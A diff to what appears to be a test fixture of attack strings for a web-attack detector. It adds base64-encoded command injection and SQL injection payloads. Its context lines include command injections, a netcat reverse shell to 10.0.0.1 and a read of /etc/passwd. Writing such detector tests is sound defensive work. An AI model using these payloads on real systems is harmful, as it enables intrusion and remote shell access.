@@ -38,6 +38,9 @@ const attacks: Attack[] = [
   { cls: "rce", where: "query", text: "x=$(id)" },
   // The same in base64, padded: 8 characters.
   { cls: "rce", where: "query", text: "x=JChpZCk=" },
+  // Short payloads in unpadded base64, as test tools' "flat" encoders send them: $(whoami), ' or 1=1--.
+  { cls: "rce", where: "body:json", text: '{"test":"JCh3aG9hbWkp"}' },
+  { cls: "sqli", where: "query", text: "test=JyBvciAxPTEtLQ" },
   { cls: "rce", where: "body:form", text: "host=example.com;id" },
   { cls: "rce", where: "body:form", text: "host=|nc -e /bin/sh 10.0.0.1 4444" },
   { cls: "rce", where: "body:form", text: "host=8.8.8.8;cat /etc/passwd" },
